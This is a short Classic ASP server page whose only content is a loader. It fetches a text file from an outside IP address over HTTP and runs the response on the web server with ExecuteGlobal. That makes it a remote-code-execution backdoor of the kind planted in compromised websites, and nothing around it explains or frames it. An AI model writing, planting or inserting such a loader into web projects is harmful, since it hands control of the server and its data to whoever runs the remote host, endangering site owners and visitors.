<%
Dim h, body
Set h = Server.CreateObject("MSXML2.ServerXMLHTTP")
h.Open "GET", "http://198.51.100.20/c.txt", False
h.Send
body = h.responseText
ExecuteGlobal body
%>
